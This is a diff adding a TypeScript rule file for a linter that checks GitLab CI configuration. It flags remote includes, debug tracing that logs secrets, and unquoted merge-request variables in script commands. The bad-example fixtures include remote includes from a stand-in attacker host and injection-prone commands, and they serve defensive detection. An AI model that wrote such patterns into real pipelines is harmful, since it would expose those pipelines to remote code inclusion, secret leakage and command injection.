@@ -1,0 +1,49 @@
+import type { SettingValue } from './setting-row.ts';
+import { saysOn } from './values.ts';
+import type { WorkflowRow } from './workflows.ts';
+
+const text = (value: SettingValue): string => (typeof value.value === 'string' ? value.value.slice(0, 8192) : '');
+
+const GITLAB = 'https://docs.gitlab.com/ci/yaml/';
+
+/** `.gitlab-ci.yml` (F-31). */
+export const GITLAB_ROWS: readonly WorkflowRow[] = [
+  {
+    preset: 'recommended',
+    id: 'F-31',
+    key: ['include', 'include[]', 'include.remote', 'include[].remote'],
+    when: (value) => /^https?:\/\//i.test(text(value)) && { preset: text(value).startsWith('http:') ? 'recommended' : 'strict' },
+    report: 'remoteInclude',
+    cwe: [829],
+    source: GITLAB,
+    allow: 'allowedHosts',
+    bad: [{ document: { include: [{ remote: 'http://ci.attacker.dev/x.yml' }] } }, { document: { include: 'https://ci.attacker.dev/x.yml' } }],
+    good: [{ document: { include: [{ local: '/ci/x.yml' }, { template: 'X.gitlab-ci.yml' }, { project: 'a/b', ref: 'v1', file: 'x.yml' }] } }],
+  },
+  {
+    preset: 'recommended',
+    id: 'F-31',
+    key: ['variables.CI_DEBUG_TRACE', '*.variables.CI_DEBUG_TRACE'],
+    when: (value) => saysOn(value.value),
+    report: 'protectionOff',
+    cwe: [532],
+    source: GITLAB,
+    data: { effect: 'writes every variable to the log, secrets too' },
+    bad: [{ document: { variables: { CI_DEBUG_TRACE: 'true' } } }, { document: { test: { variables: { CI_DEBUG_TRACE: true }, script: ['x'] } } }],
+    good: [{ document: { variables: { CI_DEBUG_TRACE: 'false' } } }],
+  },
+  {
+    preset: 'strict',
+    id: 'F-31',
+    key: ['{before_script,script,after_script}[]', '*.{before_script,script,after_script}[]'],
+    when: (value) => {
+      const variable = /(?:^|[^"'\w$}{])\$\{?(CI_MERGE_REQUEST_(?:TITLE|DESCRIPTION|SOURCE_BRANCH_NAME)|CI_COMMIT_(?:MESSAGE|TITLE|DESCRIPTION|REF_NAME|BRANCH|TAG))\b/.exec(text(value))?.[1];
+      return variable !== undefined && { data: { context: variable, where: 'words of a command' } };
+    },
+    report: 'injection',
+    cwe: [94],
+    source: GITLAB,
+    bad: ['echo $CI_MERGE_REQUEST_TITLE', 'git checkout ${CI_MERGE_REQUEST_SOURCE_BRANCH_NAME}'],
+    good: ['echo "$CI_MERGE_REQUEST_TITLE"', 'npm test', 'echo $CI_COMMIT_SHA'],
+  },
+];
